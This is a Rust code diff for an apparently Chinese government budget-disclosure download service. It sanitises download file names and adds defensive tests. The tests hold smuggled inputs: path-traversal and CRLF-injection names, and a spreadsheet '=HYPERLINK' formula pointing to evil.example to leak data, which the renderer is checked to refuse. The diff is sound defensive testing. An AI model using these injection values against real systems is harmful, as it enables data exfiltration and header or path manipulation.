@@ -183,18 +183,22 @@ pub async fn download(
         "csv" => "text/csv; charset=utf-8",
         _ => "application/json",
     };
-    let name = format!("{}{}年度部门决算.{fmt}", d.name, d.year);
-    let disposition = format!(
-        "attachment; filename=\"juesuan-{}-{}.{fmt}\"; filename*=UTF-8''{}",
-        d.id,
-        d.year,
-        percent_encode(&name)
-    );
+    let disposition = disposition(d.id, d.year, &d.name, fmt);
     let mut res = ([(header::CONTENT_TYPE, mime)], bytes.as_ref().clone()).into_response();
     if let Ok(v) = HeaderValue::from_str(&disposition) {
         res.headers_mut().insert(header::CONTENT_DISPOSITION, v);
     }
     Ok(res)
+}
+
+/// Content-Disposition of a download: an ASCII fallback name, and the Chinese name
+/// `<name><year>年度部门决算.<fmt>` made one safe file name (the browser saves under it).
+fn disposition(id: i64, year: i64, name: &str, fmt: &str) -> String {
+    let file = juesuan_model::safe::file_name(&format!("{name}{year}年度部门决算"), fmt);
+    format!(
+        "attachment; filename=\"juesuan-{id}-{year}.{fmt}\"; filename*=UTF-8''{}",
+        percent_encode(&file)
+    )
 }
 
 fn percent_encode(s: &str) -> String {
@@ -504,6 +508,49 @@ mod tests {
             }
         }
         last
+    }
+
+    #[test]
+    fn download_names_are_one_safe_file_name() {
+        let d = disposition(7, 2024, "赤峰市司法局", "pdf");
+        assert!(d.starts_with("attachment; filename=\"juesuan-7-2024.pdf\"; filename*=UTF-8''"));
+        let encoded = d.rsplit("''").next().unwrap();
+        assert_eq!(encoded, percent_encode("赤峰市司法局2024年度部门决算.pdf"));
+        for (name, want) in [
+            ("../../escaped-", "____escaped-2024年度部门决算.csv"),
+            ("/tmp/x-", "_tmp_x-2024年度部门决算.csv"),
+            ("a\\b\r\nc", "a_b__c2024年度部门决算.csv"),
+        ] {
+            let d = disposition(1, 2024, name, "csv");
+            assert_eq!(
+                d.rsplit("''").next().unwrap(),
+                percent_encode(want),
+                "{name}"
+            );
+            assert!(
+                !d.contains("%2F") && !d.contains("%5C") && !d.contains("%0A"),
+                "{d}"
+            );
+            assert!(axum::http::HeaderValue::from_str(&d).is_ok());
+        }
+    }
+
+    #[test]
+    fn portal_csv_is_refused_for_a_formula_name() {
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../examples/chifeng-sfj-2024");
+        let mut files = store::from_dir(&dir).unwrap();
+        let csv = String::from_utf8(render(&files, "csv").unwrap()).unwrap();
+        assert!(csv.starts_with("entity,year,unit,"));
+        assert!(csv.contains("\n赤峰市司法局,2024,部门,赤峰市司法局,T1,"));
+        let toml = files.get_mut("disclosure.toml").unwrap();
+        *toml = toml.replacen(
+            "name = \"赤峰市司法局\"",
+            "name = \"=HYPERLINK(\\\"http://evil.example/?leak\\\",\\\"点击查看\\\")\"",
+            1,
+        );
+        let e = render(&files, "csv").unwrap_err();
+        assert!(e.contains("以“=”开头"), "{e}");
     }
 
     #[test]
